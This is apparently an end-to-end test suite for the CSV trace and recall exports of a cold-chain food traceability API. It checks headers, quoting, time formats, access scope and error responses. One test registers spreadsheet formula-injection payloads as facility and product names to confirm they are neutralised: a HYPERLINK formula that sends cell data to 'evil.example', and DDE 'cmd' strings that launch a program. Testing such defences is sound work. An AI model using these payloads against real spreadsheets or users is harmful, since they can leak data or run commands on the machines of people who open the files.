import { parse } from 'csv-parse/sync';
import type { Response, Test } from 'supertest';
import { Client, createTestApp, TestApp } from './support/test-app';
import { attachAllPapers, attachDocument, minutesAgo, scanOk, uid } from './support/fixtures';

/*
 * Spreadsheets, end to end: a journey (receipts, shipments, a split, a sale,
 * a destruction, a recall) exported as the trace and the recall CSV, read back
 * by a real CSV parser: the header row, one row per critical tracking event of
 * the lots' histories, Chinese names intact, times ISO 8601 with the offset,
 * quoting that round-trips, text a spreadsheet would run as a formula
 * neutralised, the trace's operator scope, 404s as JSON.
 */

const CTE_HEADER = [
  'traceability_lot_code',
  'product_name',
  'product_category',
  'cte',
  'event_type',
  'quantity',
  'unit',
  'location_id',
  'location_name',
  'location_type',
  'previous_location_id',
  'previous_location_name',
  'next_location_id',
  'next_location_name',
  'event_time',
  'reference_type',
  'reference',
  'source_lots',
  'new_lots',
];
const RECALL_HEADER = [...CTE_HEADER, 'recall_id', 'recalled_at', 'holder_at_recall_id', 'holder_at_recall_name'];

/** The lot event types that are critical tracking events. */
const CTE_TYPES = ['LotRegistered', 'LotReceived', 'LotDispatched', 'LotSplit', 'LotMerged', 'LotDerived', 'LotSold', 'LotDestroyed'];

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const LOCAL_TIME = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+08:00$/;

/** The body as bytes, whatever its type: the BOM must be checked as sent. */
const raw = (test: Test): Test =>
  test.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });

interface Csv {
  header: string[];
  rows: Record<string, string>[];
  res: Response;
}

const csv = async (client: Client, url: string): Promise<Csv> => {
  const res = await raw(client.get(url));
  expect({ url, status: res.status }).toEqual({ url, status: 200 });
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  const body = res.body as Buffer;
  expect(body.subarray(0, 3)).toEqual(BOM);
  const text = body.toString('utf8');
  // RFC 4180: every record ends CRLF, no bare LF between them.
  expect(text.endsWith('\r\n')).toBe(true);
  const records: string[][] = parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false });
  const [header, ...data] = records;
  return { header, rows: data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))), res };
};

const json = async (client: Client, url: string) => {
  const res = await raw(client.get(url));
  expect(res.headers['content-type']).toMatch(/^application\/json/);
  return { status: res.status, body: JSON.parse((res.body as Buffer).toString('utf8')) as { code: string } };
};

describe('CSV exports: trace and recall spreadsheets (e2e, real PostgreSQL)', () => {
  let t: TestApp;
  const tag = uid();
  const f = {
    port: `PORT-${tag}`,
    warehouse: `CW-${tag}`,
    market: `WM-${tag}`,
    store: `RS-${tag}`,
    far: `CW-FAR-${tag}`,
  };
  const names: Record<string, string> = {
    [f.port]: '洋山港',
    [f.warehouse]: '上海冷链总仓',
    [f.market]: '江桥批发市场',
    // A comma and quotes: the field must be quoted and come back whole.
    [f.store]: '联华超市, "江桥店"',
  };
  const product = '冷冻牛腩（巴西）';
  const parent = `BEEF-${tag}`;
  const childA = `${parent}-A`;
  const childB = `${parent}-B`;
  const recallId = `R-${tag}`;
  let position = 0;

  /** Each step a few minutes after the last, so times order the events. */
  let minute = 400;
  const next = () => minutesAgo((minute -= 10));

  beforeAll(async () => {
    t = await createTestApp();
    const admin = t.as(t.tokens.admin);
    await admin.post('/api/facilities').send({ id: f.port, name: names[f.port], type: 'PORT_OF_ENTRY', zones: [] }).expect(201);
    await admin
      .post('/api/facilities')
      .send({ id: f.warehouse, name: names[f.warehouse], type: 'CENTRAL_WAREHOUSE', zones: [{ id: 'IN-1', kind: 'DEDICATED_INTAKE' }, { id: 'COLD-1', kind: 'DEDICATED_STORAGE' }] })
      .expect(201);
    await admin.post('/api/facilities').send({ id: f.market, name: names[f.market], type: 'WHOLESALE_MARKET', zones: [{ id: 'COLD-2', kind: 'DEDICATED_STORAGE' }] }).expect(201);
    await admin
      .post('/api/facilities')
      .send({ id: f.store, name: names[f.store], type: 'RETAIL_STORE', zones: [{ id: 'SALES-1', kind: 'DEDICATED_SALES' }, { id: 'BACK-1', kind: 'GENERAL' }] })
      .expect(201);
    await admin.post('/api/facilities').send({ id: f.far, name: '北京冷库', type: 'CENTRAL_WAREHOUSE', zones: [] }).expect(201);

    await t
      .http()
      .post('/api/lots')
      .send({
        traceCode: parent,
        product: { name: product, category: 'FROZEN' },
        originCountry: 'BR',
        importer: 'Acme Imports Ltd',
        quantity: { amount: 1200, unit: 'KG' },
        portOfEntryId: f.port,
        enteredAt: minutesAgo(600),
      })
      .expect(201);
    await attachAllPapers(t, parent);
    await scanOk(t, { traceCode: parent, facilityId: f.port, action: 'DISPATCH', toFacilityId: f.warehouse, occurredAt: next(), vehicle: { plate: '沪A-12345' } });
    await scanOk(t, { traceCode: parent, facilityId: f.warehouse, action: 'RECEIVE', zoneId: 'IN-1', occurredAt: next() });
    await scanOk(t, { traceCode: parent, facilityId: f.warehouse, action: 'STORE', zoneId: 'COLD-1', occurredAt: next() });
    await t
      .http()
      .post(`/api/lots/${parent}/splits`)
      .send({ splitId: `SP-${tag}`, occurredAt: next(), children: [{ traceCode: childA, quantity: 200 }, { traceCode: childB, quantity: 100.5 }] })
      .expect(201);
    await scanOk(t, { traceCode: childA, facilityId: f.warehouse, action: 'DISPATCH', toFacilityId: f.market, occurredAt: next() });
    await scanOk(t, { traceCode: childA, facilityId: f.market, action: 'RECEIVE', zoneId: 'COLD-2', occurredAt: next() });
    await scanOk(t, { traceCode: childA, facilityId: f.market, action: 'DISPATCH', toFacilityId: f.store, occurredAt: next() });
    await scanOk(t, { traceCode: childA, facilityId: f.store, action: 'RECEIVE', zoneId: 'BACK-1', occurredAt: next() });
    await scanOk(t, { traceCode: childA, facilityId: f.store, action: 'STORE', zoneId: 'SALES-1', occurredAt: next() });
    await scanOk(t, { traceCode: childA, facilityId: f.store, action: 'SELL', zoneId: 'SALES-1', quantity: 2.5, scanId: `SALE-${tag}`, occurredAt: next() });
    await t.http().post(`/api/lots/${childB}/destroy`).send({ reason: 'thawed in transit' }).expect(200);
    position = (await t.http().post(`/api/lots/${parent}/recall`).send({ reason: 'positive test at origin', recallId }).expect(201)).body.position;
  });

  afterAll(async () => {
    await t?.close();
  });

  /** Every critical tracking event in a lot's history, read from the JSON route. */
  const ctesInHistory = async (traceCode: string) => {
    const res = await t.http().get(`/api/lots/${traceCode}/history?order=occurred&limit=1000&atLeast=${position}`).expect(200);
    return (res.body.events as { type: string; occurredAt: string; version: number }[]).filter((e) => CTE_TYPES.includes(e.type));
  };

  it('trace forward: the header row, one row per CTE of every lot, by lot then time, Chinese names intact', async () => {
    const { header, rows, res } = await csv(t.http(), `/api/lots/${parent}/trace.csv?direction=forward&atLeast=${position}`);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="trace-${parent}-forward.csv"`);
    expect(header).toEqual(CTE_HEADER);

    // One row per CTE of each lot's history, lots in trace-code order, each lot's in time order.
    const expected: { lot: string; type: string; at: number }[] = [];
    for (const lot of [parent, childA, childB]) for (const e of await ctesInHistory(lot)) expected.push({ lot, type: e.type, at: Date.parse(e.occurredAt) });
    // Parent: entered at the port, shipped, received, split; A: derived, shipped, received, shipped, received, sold; B: derived, destroyed.
    expect(expected.length).toBe(4 + 6 + 2);
    expect(rows.map((r) => ({ lot: r.traceability_lot_code, type: r.event_type, at: Date.parse(r.event_time) }))).toEqual(expected);

    for (const r of rows) {
      expect(r.product_name).toBe(product);
      expect(r.unit).toBe('KG');
      expect(r.event_time).toMatch(LOCAL_TIME);
    }
    const find = (lot: string, type: string) => rows.filter((r) => r.traceability_lot_code === lot && r.event_type === type);
    // Its entry at the port: what was registered, its customs declaration as the reference.
    const declaration = (await t.http().get(`/api/lots/${parent}?atLeast=${position}`).expect(200)).body.documents.find((d: { type: string }) => d.type === 'CUSTOMS_DECLARATION').number;
    expect(find(parent, 'LotRegistered')).toEqual([
      expect.objectContaining({
        cte: 'RECEIVING',
        quantity: '1200',
        location_id: f.port,
        location_name: '洋山港',
        location_type: 'PORT_OF_ENTRY',
        previous_location_id: '',
        reference_type: 'CUSTOMS_DECLARATION',
        reference: declaration,
      }),
    ]);
    expect(find(parent, 'LotDispatched')[0]).toMatchObject({
      cte: 'SHIPPING',
      location_id: f.port,
      location_name: '洋山港',
      location_type: 'PORT_OF_ENTRY',
      next_location_id: f.warehouse,
      next_location_name: '上海冷链总仓',
      quantity: '1200',
    });
    expect(find(parent, 'LotReceived')[0]).toMatchObject({ cte: 'RECEIVING', location_name: '上海冷链总仓', previous_location_id: f.port, previous_location_name: '洋山港' });
    expect(find(parent, 'LotSplit')[0]).toMatchObject({
      cte: 'TRANSFORMATION',
      quantity: '300.5',
      reference_type: 'SPLIT',
      reference: `SP-${tag}`,
      source_lots: parent,
      new_lots: `${childA};${childB}`,
    });
    expect(find(childA, 'LotDerived')[0]).toMatchObject({ cte: 'TRANSFORMATION', quantity: '200', location_id: f.warehouse, source_lots: parent, new_lots: childA });
    // The store's name holds a comma and quotes: quoted on the wire, whole once parsed.
    expect(find(childA, 'LotReceived').at(-1)).toMatchObject({ location_name: '联华超市, "江桥店"', previous_location_name: '江桥批发市场' });
    expect(find(childA, 'LotSold')[0]).toMatchObject({ cte: 'SALE', quantity: '2.5', reference_type: 'SCAN', reference: `SALE-${tag}`, location_type: 'RETAIL_STORE' });
    expect(find(childB, 'LotDestroyed')[0]).toMatchObject({ cte: 'DESTRUCTION', quantity: '100.5', location_name: '上海冷链总仓' });
    expect((res.body as Buffer).toString('utf8')).toContain('"联华超市, ""江桥店"""');
  });

  it('trace backward from the sold lot: its own CTEs and its parent\'s', async () => {
    const { rows, res } = await csv(t.http(), `/api/lots/${childA}/trace.csv?direction=backward&atLeast=${position}`);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="trace-${childA}-backward.csv"`);
    expect([...new Set(rows.map((r) => r.traceability_lot_code))]).toEqual([parent, childA]);
    expect(rows.length).toBe((await ctesInHistory(parent)).length + (await ctesInHistory(childA)).length);
  });

  it('recall: one row per CTE of every lot it reached, with the holder at recall', async () => {
    const { header, rows, res } = await csv(t.http(), `/api/recalls/${recallId}/export.csv?atLeast=${position}`);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="recall-${recallId}.csv"`);
    expect(header).toEqual(RECALL_HEADER);
    const recall = (await t.http().get(`/api/recalls/${recallId}`).expect(200)).body as { lots: { traceCode: string; holderWhenRecalled: string | null }[] };
    expect(recall.lots.map((l) => l.traceCode)).toEqual([parent, childA, childB]);
    let count = 0;
    for (const lot of recall.lots) count += (await ctesInHistory(lot.traceCode)).length;
    expect(rows.length).toBe(count);
    for (const r of rows) {
      expect(r.recall_id).toBe(recallId);
      expect(r.recalled_at).toMatch(LOCAL_TIME);
      expect(r.event_time).toMatch(LOCAL_TIME);
      const lot = recall.lots.find((l) => l.traceCode === r.traceability_lot_code)!;
      expect(r.holder_at_recall_id).toBe(lot.holderWhenRecalled ?? '');
    }
    expect(rows.find((r) => r.traceability_lot_code === childA)).toMatchObject({ holder_at_recall_id: f.store, holder_at_recall_name: '联华超市, "江桥店"' });
    expect(rows.find((r) => r.traceability_lot_code === parent)).toMatchObject({ holder_at_recall_name: '上海冷链总仓' });
    // Sorted by lot, then time.
    const keys = rows.map((r) => [r.traceability_lot_code, r.event_time] as const);
    expect([...keys].sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : a[1] < b[1] ? -1 : a[1] > b[1] ? 1 : 0))).toEqual(keys);
  });

  it('neutralises names a spreadsheet would run as formulas (OWASP: a leading \'), and dropping it gives the names back', async () => {
    // What the outside probe registered: each starts a formula in Excel, LibreOffice or Google Sheets.
    const evil = {
      port: '=HYPERLINK("http://evil.example/?"&A1,"open")',
      warehouse: '+cmd|\' /C calc\'!A0',
      market: '-2+3+cmd|\' /C calc\'!A0',
      store: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      product: '\t=1+1',
    };
    const g = { port: `PORT-X-${tag}`, warehouse: `CW-X-${tag}`, market: `WM-X-${tag}`, store: `RS-X-${tag}` };
    const admin = t.as(t.tokens.admin);
    await admin.post('/api/facilities').send({ id: g.port, name: evil.port, type: 'PORT_OF_ENTRY', zones: [] }).expect(201);
    await admin.post('/api/facilities').send({ id: g.warehouse, name: evil.warehouse, type: 'CENTRAL_WAREHOUSE', zones: [{ id: 'IN-1', kind: 'DEDICATED_INTAKE' }] }).expect(201);
    await admin.post('/api/facilities').send({ id: g.market, name: evil.market, type: 'WHOLESALE_MARKET', zones: [{ id: 'COLD-2', kind: 'DEDICATED_STORAGE' }] }).expect(201);
    await admin.post('/api/facilities').send({ id: g.store, name: evil.store, type: 'RETAIL_STORE', zones: [{ id: 'BACK-1', kind: 'GENERAL' }] }).expect(201);
    const lot = `EVIL-${tag}`;
    await t
      .http()
      .post('/api/lots')
      .send({ traceCode: lot, product: { name: evil.product, category: 'FROZEN' }, originCountry: 'BR', importer: '=1+1', quantity: { amount: 10, unit: 'KG' }, portOfEntryId: g.port, enteredAt: minutesAgo(600) })
      .expect(201);
    await attachAllPapers(t, lot);
    let at = 500;
    const step = () => minutesAgo((at -= 10));
    await scanOk(t, { traceCode: lot, facilityId: g.port, action: 'DISPATCH', toFacilityId: g.warehouse, occurredAt: step() });
    await scanOk(t, { traceCode: lot, facilityId: g.warehouse, action: 'RECEIVE', zoneId: 'IN-1', occurredAt: step() });
    await scanOk(t, { traceCode: lot, facilityId: g.warehouse, action: 'DISPATCH', toFacilityId: g.market, occurredAt: step() });
    await scanOk(t, { traceCode: lot, facilityId: g.market, action: 'RECEIVE', zoneId: 'COLD-2', occurredAt: step() });
    await scanOk(t, { traceCode: lot, facilityId: g.market, action: 'DISPATCH', toFacilityId: g.store, occurredAt: step() });
    await scanOk(t, { traceCode: lot, facilityId: g.store, action: 'RECEIVE', zoneId: 'BACK-1', occurredAt: step() });
    const recall = `R-X-${tag}`;
    const recalled = (await t.http().post(`/api/lots/${lot}/recall`).send({ reason: 'probe', recallId: recall }).expect(201)).body.position as number;

    const names = new Set(Object.values(evil));
    /** Cells holding one of the names behind one leading character. */
    const neutralised = (x: Csv) => x.rows.flatMap((r) => Object.values(r)).filter((cell) => names.has(cell.slice(1)));
    for (const url of [`/api/lots/${lot}/trace.csv?direction=forward&atLeast=${recalled}`, `/api/recalls/${recall}/export.csv?atLeast=${recalled}`]) {
      const x = await csv(t.http(), url);
      // The entry at the port, three shipments and three receipts: the product on each row, one to three facility names, the recall's holder.
      expect({ url, rows: x.rows.length }).toEqual({ url, rows: 7 });
      const cells = x.rows.flatMap((r) => Object.values(r));
      expect({ url, runnable: cells.filter((c) => /^[=+\-@\t\r]/.test(c)) }).toEqual({ url, runnable: [] });
      // The probe counted 16 such cells in the trace and 23 in the recall export: each now starts with '.
      const named = neutralised(x);
      expect(named.length).toBeGreaterThanOrEqual(url.includes('recall') ? 23 : 16);
      expect(named.filter((cell) => !cell.startsWith("'"))).toEqual([]);
      // Dropping the one leading ' gives back exactly the recorded names.
      expect(x.rows.every((r) => r.product_name === `'${evil.product}`)).toBe(true);
      expect(x.rows.find((r) => r.event_type === 'LotDispatched')).toMatchObject({ location_name: `'${evil.port}`, next_location_name: `'${evil.warehouse}` });
      expect(x.rows.filter((r) => r.event_type === 'LotReceived').map((r) => r.location_name.slice(1))).toEqual([evil.warehouse, evil.market, evil.store]);
      expect(x.rows.find((r) => r.event_type === 'LotRegistered')).toMatchObject({ location_name: `'${evil.port}` });
      if (url.includes('recall')) expect(x.rows.every((r) => r.holder_at_recall_name === `'${evil.store}`)).toBe(true);
    }
  });

  it('an operator gets the lots in its scope only; another firm\'s lot is 404 JSON as the trace answers', async () => {
    const store = t.as((await t.issueKey('OPERATOR', [f.store], 'store till')).token);
    // The sold lot came to the store; its parent never did: only the child's rows.
    const { rows } = await csv(store, `/api/lots/${childA}/trace.csv?direction=backward&atLeast=${position}`);
    expect([...new Set(rows.map((r) => r.traceability_lot_code))]).toEqual([childA]);
    expect(await json(store, `/api/lots/${parent}/trace.csv?direction=forward`)).toEqual({ status: 404, body: expect.objectContaining({ code: 'LOT_NOT_FOUND' }) });

    const far = t.as((await t.issueKey('OPERATOR', [f.far], 'far warehouse')).token);
    const jsonTrace = await far.get(`/api/lots/${childA}/trace?direction=backward`);
    expect(jsonTrace.status).toBe(404);
    expect(await json(far, `/api/lots/${childA}/trace.csv?direction=backward`)).toEqual({ status: 404, body: expect.objectContaining({ code: 'LOT_NOT_FOUND' }) });
  });

  it('a lot recalled at the port, before it went anywhere: its entry row in the trace and the recall spreadsheets', async () => {
    const atPort = `PORT-LOT-${tag}`;
    await t
      .http()
      .post('/api/lots')
      .send({ traceCode: atPort, product: { name: product, category: 'FROZEN' }, originCountry: 'BR', importer: 'Acme', quantity: { amount: 40, unit: 'CARTON' }, portOfEntryId: f.port, enteredAt: minutesAgo(300) })
      .expect(201);
    const { position: noPapers } = (await t.http().post(`/api/lots/${atPort}/recall`).send({ reason: 'seized at the port', recallId: `RP-${tag}` }).expect(201)).body;
    const entry = { traceability_lot_code: atPort, cte: 'RECEIVING', event_type: 'LotRegistered', quantity: '40', unit: 'CARTON', location_id: f.port, location_name: '洋山港' };
    // No customs declaration yet: the row, with no reference.
    const before = await csv(t.http(), `/api/recalls/RP-${tag}/export.csv?atLeast=${noPapers}`);
    expect(before.rows).toEqual([expect.objectContaining({ ...entry, reference_type: '', reference: '', recall_id: `RP-${tag}`, holder_at_recall_id: f.port })]);
    // Its declaration filed afterwards names the entry.
    const { position: filed } = await attachDocument(t, atPort, 'CUSTOMS_DECLARATION', { number: `CD-${tag}` });
    const withDeclaration = { ...entry, reference_type: 'CUSTOMS_DECLARATION', reference: `CD-${tag}` };
    const recall = await csv(t.http(), `/api/recalls/RP-${tag}/export.csv?atLeast=${filed}`);
    expect(recall.rows).toEqual([expect.objectContaining({ ...withDeclaration, recall_id: `RP-${tag}`, holder_at_recall_id: f.port, holder_at_recall_name: '洋山港' })]);
    for (const direction of ['forward', 'backward']) {
      const trace = await csv(t.http(), `/api/lots/${atPort}/trace.csv?direction=${direction}`);
      expect(trace.rows).toEqual([expect.objectContaining(withDeclaration)]);
    }
  });

  it('refuses what it cannot answer: an unknown recall or lot (404), no direction (400)', async () => {
    expect(await json(t.http(), `/api/recalls/NOPE-${tag}/export.csv`)).toEqual({ status: 404, body: expect.objectContaining({ code: 'RECALL_NOT_FOUND' }) });
    expect(await json(t.http(), `/api/lots/NOPE-${tag}/trace.csv?direction=forward`)).toEqual({ status: 404, body: expect.objectContaining({ code: 'LOT_NOT_FOUND' }) });
    expect(await json(t.http(), `/api/lots/${parent}/trace.csv`)).toEqual({ status: 400, body: expect.objectContaining({ code: 'VALIDATION_FAILED' }) });
  });

  it('pages inside: a recall of more lots than one page holds lists each lot once, in order', async () => {
    const big = `BIG-${tag}`;
    await t
      .http()
      .post('/api/lots')
      .send({ traceCode: big, product: { name: product, category: 'FROZEN' }, originCountry: 'BR', importer: 'Acme', quantity: { amount: 1000, unit: 'CARTON' }, portOfEntryId: f.port, enteredAt: minutesAgo(600) })
      .expect(201);
    const children = Array.from({ length: 450 }, (_, i) => ({ traceCode: `${big}-${String(i).padStart(3, '0')}`, quantity: 2 }));
    await t.http().post(`/api/lots/${big}/splits`).send({ splitId: `SPB-${tag}`, children }).expect(201);
    const recalled = await t.http().post(`/api/lots/${big}/recall`).send({ reason: 'big', recallId: `RB-${tag}` }).expect(201);
    const { rows } = await csv(t.http(), `/api/recalls/RB-${tag}/export.csv?atLeast=${recalled.body.position}`);
    // The parent's entry and split, then each child's derivation: 452 rows, one lot after another.
    expect(rows.map((r) => r.traceability_lot_code)).toEqual([big, big, ...children.map((c) => c.traceCode)]);
    expect(rows.slice(2).every((r) => r.event_type === 'LotDerived' && r.quantity === '2' && r.unit === 'CARTON')).toBe(true);
  });
});
